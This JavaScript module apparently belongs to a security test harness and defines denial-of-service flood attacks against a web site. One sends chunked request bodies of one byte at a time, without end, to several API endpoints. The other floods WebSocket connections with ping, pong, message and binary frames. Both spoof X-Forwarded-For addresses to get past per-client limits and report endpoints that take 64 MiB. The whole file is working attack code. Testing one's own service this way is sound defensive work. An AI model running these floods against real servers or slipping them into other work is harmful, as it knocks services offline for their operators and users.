// Connections that send as much as they can in the smallest chunks and frames.
import { randomBytes } from 'node:crypto'
import net from 'node:net'
import { newAddress } from './site.mjs'

/** More than systems buffer of a connection that nobody reads. */
const floodBytes = 64 * 1_024 * 1_024

/**
 * Sends `head` and then `piece` again and again, whatever comes back; returns the bytes that were taken until the connection ended.
 * @param {import('./site.mjs').Site} site @param {string} head @param {Buffer} piece @param {boolean} awaitResponse
 */
async function flood(site, head, piece, awaitResponse) {
  const { hostname, port } = new URL(site.origin)
  const socket = net.connect(Number(port), hostname)
  socket.on('error', () => undefined)
  const closed = new Promise((resolve) => socket.once('close', resolve))
  socket.write(head)
  if (awaitResponse) await Promise.race([new Promise((resolve) => socket.once('data', resolve)), closed])
  socket.resume()
  const many = Buffer.concat(Array.from({ length: 5_000 }, () => piece))
  while (!socket.destroyed && socket.bytesWritten < floodBytes) {
    if (!socket.write(many))
      await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), closed])
  }
  const bytes = socket.bytesWritten
  socket.destroy()
  return bytes
}

/** @param {number} opcode @param {string} text */
function frame(opcode, text = '') {
  const mask = randomBytes(4)
  const payload = Buffer.from(text).map((byte, index) => byte ^ (mask[index % 4] ?? 0))
  return Buffer.concat([Buffer.from([0x80 | opcode, 0x80 | payload.length]), mask, payload])
}

/** @type {import('./main.mjs').Attack[]} */
export const floodAttacks = [
  {
    point: 'A3',
    name: 'send a body in chunks of one byte without end',
    async run({ site }) {
      const found = []
      for (const line of [
        'POST /api/graphql',
        'POST /bridge/v1/sync',
        'PATCH /api/uploads/1',
        'GET /robots.txt',
      ]) {
        const head = `${line} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ${newAddress()}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`
        const bytes = await flood(site, head, Buffer.from('1\r\na\r\n'), false)
        if (bytes >= floodBytes) found.push(`${line}: ${bytes} bytes were taken`)
      }
      return found
    },
  },
  {
    point: 'A3',
    name: 'flood a socket with frames of every kind, also after the server has closed it',
    async run({ site }) {
      const found = []
      for (const [name, piece] of /** @type {const} */ ([
        ['pongs', frame(10)],
        ['pings', frame(9)],
        ['messages', frame(1, '{"type":"ping"}')],
        ['invalid messages', frame(1, '{}')],
        ['binary frames', frame(2, 'x')],
      ])) {
        const head =
          `GET /api/graphql HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ${newAddress()}\r\nConnection: upgrade\r\nUpgrade: websocket\r\n` +
          `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\nSec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n`
        const bytes = await flood(site, head, piece, true)
        if (bytes >= floodBytes) found.push(`${name}: ${bytes} bytes were taken`)
      }
      return found
    },
  },
]
